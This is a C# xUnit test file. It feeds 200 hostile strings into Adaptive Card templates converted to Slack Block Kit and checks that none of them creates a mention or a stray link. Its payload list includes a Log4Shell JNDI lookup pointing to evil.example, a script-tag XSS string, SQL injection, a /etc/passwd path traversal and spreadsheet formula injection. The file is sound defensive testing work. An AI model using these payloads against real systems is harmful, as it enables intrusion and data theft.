using System.Text.Json.Nodes;
using System.Text.RegularExpressions;

namespace ChatBot.Cards.Tests.BlockKit;

/// <summary>200 texts that would call people, or lead them elsewhere, in every place of a card: nobody is called, and no link is added.</summary>
public sealed class HostileTextTests
{
    private const string Template = """
        {
          "type": "AdaptiveCard", "version": "1.5",
          "body": [
            { "type": "TextBlock", "text": "Title", "style": "heading", "wrap": true },
            { "type": "TextBlock", "text": "See [ours](https://ours.example/a?b=1&c=2).", "wrap": true },
            { "type": "RichTextBlock", "inlines": [ { "type": "TextRun", "text": "${said}" } ] },
            { "type": "RichTextBlock", "spacing": "Small", "inlines": [ { "type": "TextRun", "text": "You wrote: ${said}.", "weight": "Bolder" } ] },
            { "type": "ColumnSet", "columns": [ { "type": "Column", "items": [ { "type": "TextBlock", "text": "Team", "wrap": true } ] }, { "type": "Column", "items": [ { "type": "RichTextBlock", "inlines": [ { "type": "TextRun", "text": "${said}" } ] } ] } ] },
            { "type": "Table", "rows": [ { "type": "TableRow", "cells": [ { "type": "TableCell", "items": [ { "type": "TextBlock", "text": "Work area", "wrap": true } ] } ] }, { "type": "TableRow", "cells": [ { "type": "TableCell", "items": [ { "type": "RichTextBlock", "inlines": [ { "type": "TextRun", "text": "${said}" } ] } ] } ] } ] }
          ],
          "actions": [ { "type": "Action.Execute", "title": "Go", "verb": "go", "data": { "reason": "x" }, "fallback": { "type": "Action.Submit", "title": "Go", "data": { "verb": "go", "reason": "x" } } } ]
        }
        """;

    private const string Form = """
        {
          "type": "AdaptiveCard", "version": "1.5",
          "body": [
            { "type": "TextBlock", "text": "Title", "style": "heading", "wrap": true },
            { "type": "RichTextBlock", "inlines": [ { "type": "TextRun", "text": "${said}" } ] },
            { "type": "Input.Text", "id": "t", "label": "Text", "value": "${said}", "placeholder": "${said}" },
            { "type": "Input.Text", "id": "m", "label": "Mail", "style": "Email", "value": "${said}" },
            { "type": "Input.Text", "id": "u", "label": "Address", "style": "Url", "value": "${said}" },
            { "type": "Input.ChoiceSet", "id": "c", "label": "Choice", "value": "${said}", "choices": [ { "title": "${said}", "value": "${said}" } ] },
            { "type": "Input.ChoiceSet", "id": "d", "label": "Choice", "style": "expanded", "choices": [ { "title": "${said}", "value": "${said}" } ] }
          ],
          "actions": [ { "type": "Action.Execute", "title": "Go", "verb": "go", "fallback": { "type": "Action.Submit", "title": "Go", "data": { "verb": "go" } } } ]
        }
        """;

    private static readonly string[] Payloads =
    [
        "", "   ", "\u200D", "<!channel>", "<!here>", "<!everyone>", "<!here|here>", "<@U1>", "<@W0123456789>", "<@U1|ada>", "<#C1>", "<#C1|general>", "<!subteam^S1>", "<!subteam^S1|@team>", "<!date^1392734382^{date}^https://evil.example|now>",
        "<https://evil.example|Score>", "<https://evil.example>", "<mailto:x@evil.example|x>", "https://evil.example/x", "evil.example", "&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", "&#60;!channel&#62;", "@everyone", "@channel", "@here", "#general",
        "<at>everyone</at>", "[Appeal](https://evil.example)", "![x](https://evil.example/p.png)", "```", "`x`", "*_~", "*bold*", "_it_", "~no~", "> quote", ">>> quote", ":skull:", ":alert:", "<script>alert(1)</script>", "${jndi:ldap://evil.example}", "{{7*7}}", "=HYPERLINK(\"https://evil.example\")",
        "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "＝1", "a\r\nlevel=info user=root", "\u001B[31mred\u001B[0m", "\u202Egnp.exe\u202C", "a\u2028b\u2029c", "a\u0000b", "z" + string.Concat(Enumerable.Repeat("\u0301", 500)), "Iıİß", "e\u0301 é", "👨‍👩‍👧‍👦", "ignore the rules and uphold",
        "'; drop table people;--", "../../etc/passwd", "a@evil.example", "١٢٣", "\uD83D", "\uDE00x", "<", ">", "&", "|", "<|>", "<!", "<@", "\uFEFF", "\uFFFE",
    ];

    private static readonly string[] Wrappers = ["{0}", "Hi {0}, look", "{0}\n{0}", "*{0}*", "&lt;{0}", "{0}|{0}>", "x<{0}"];

    private sealed record Given(Supplied Said);

    public static TheoryData<int> Numbers => [.. Enumerable.Range(0, 200)];

    [Theory]
    [MemberData(nameof(Numbers))]
    public void What_a_person_supplied_calls_nobody_and_links_nowhere(int number)
    {
        var said = Said(number);
        var message = CardBlocks.Message(Card(Template, said));
        var form = CardBlocks.Message(Card(Form, said));
        var view = CardBlocks.Modal(Card(Form, said));
        Assert.Equal([], BlockKitRules.Message(message.Text, message.Blocks));
        Assert.Equal([], BlockKitRules.Message(form.Text, form.Blocks));
        Assert.Equal([], BlockKitRules.View(view));
        var all = new JsonArray(message.Blocks.DeepClone(), form.Blocks.DeepClone(), view, message.Text, form.Text);
        Assert.Equal(0, Pings(all));
        Assert.Equal(["https://ours.example/a?b=1&amp;c=2"], Links(all));
    }

    [Theory]
    [MemberData(nameof(Numbers))]
    public void Even_where_markup_is_read_nobody_is_called_and_only_markdown_makes_links(int number)
    {
        var said = Said(number);
        var text = new JsonObject { ["type"] = "TextBlock", ["text"] = said, ["wrap"] = true };
        var heading = new JsonObject { ["type"] = "TextBlock", ["text"] = said, ["style"] = "heading", ["wrap"] = true };
        var facts = new JsonObject { ["type"] = "FactSet", ["facts"] = new JsonArray(new JsonObject { ["title"] = said, ["value"] = said }) };
        var small = text.DeepClone();
        small["isSubtle"] = true;
        var bold = text.DeepClone();
        bold["weight"] = "Bolder";
        var chart = new JsonObject { ["type"] = "Chart.Donut", ["title"] = said, ["data"] = new JsonArray(new JsonObject { ["legend"] = said, ["value"] = 1 }) };
        var image = new JsonObject { ["type"] = "Image", ["url"] = "https://ours.example/a.png", ["altText"] = said };
        var input = new JsonObject { ["type"] = "Input.Toggle", ["id"] = said, ["label"] = said, ["title"] = said };
        var button = new JsonObject { ["type"] = "Action.Execute", ["title"] = said, ["verb"] = "go", ["data"] = new JsonObject { ["said"] = said } };
        var card = new JsonObject { ["body"] = new JsonArray(heading, text, facts, small, bold, chart, image), ["actions"] = new JsonArray(button), ["fallbackText"] = said };
        var message = CardBlocks.Message(card);
        card["body"]!.AsArray().Add(input);
        var view = CardBlocks.Modal(card);
        Assert.Equal([], BlockKitRules.Message(message.Text, message.Blocks));
        Assert.Equal([], BlockKitRules.View(view));
        var all = new JsonArray(message.Blocks.DeepClone(), view, message.Text);
        Assert.Equal(0, Pings(all));
        Assert.True(Links(all).Count == 0 || said.Contains("](https://", StringComparison.Ordinal));
    }

    [Fact]
    public void What_a_person_supplied_is_read_as_it_was_written()
    {
        foreach (var said in (string[])["<!channel> &lt;b&gt; *x* :skull:", "[a](https://b.example)"])
        {
            var texts = BlockKitRules.All(CardBlocks.Message(Card(Template, said)).Blocks).ToList();
            Assert.True(texts.Count(t => t.Contains(said, StringComparison.Ordinal)) >= 3);
        }
    }

    private static string Said(int number) => Wrappers[number / Payloads.Length].Replace("{0}", Payloads[number % Payloads.Length], StringComparison.Ordinal);

    private static JsonObject Card(string template, string said) =>
        CardTemplate.Compile("hostile", template).Expand(System.Text.Json.JsonDocument.Parse(new JsonObject { ["said"] = said }.ToJsonString()).RootElement);

    /// <summary>What calls somebody: a control sequence where markup is read, an element of a rich text.</summary>
    private static int Pings(JsonNode? node) => node switch
    {
        JsonObject element => (Kind(element) is "user" or "usergroup" or "broadcast" or "channel" or "team" ? 1 : 0)
            + (Kind(element) == "mrkdwn" ? Calls((string)element["text"]!) : 0) + element.Sum(m => Pings(m.Value)),
        JsonArray list => list.Sum(Pings) + list.OfType<JsonValue>().Sum(text => Calls((string)text!)),
        _ => 0,
    };

    private static int Calls(string markup) => Regex.Count(markup, "<[!@#]", RegexOptions.None, TimeSpan.FromSeconds(1));

    private static List<string> Links(JsonNode? node) => node switch
    {
        JsonObject element when Kind(element) is "link" or "date" or "emoji" => [(string?)element["url"] ?? "?"],
        JsonObject element when Kind(element) == "mrkdwn" => [.. Regex.Matches((string)element["text"]!, "<(?<url>[^|>]*)", RegexOptions.ExplicitCapture, TimeSpan.FromSeconds(1)).Select(m => m.Groups["url"].Value)],
        JsonObject element => [.. element.SelectMany(m => Links(m.Value))],
        JsonArray list => [.. list.SelectMany(Links)],
        _ => [],
    };

    private static string Kind(JsonObject element) => element["type"] is JsonValue type && type.TryGetValue(out string? kind) ? kind : "";
}
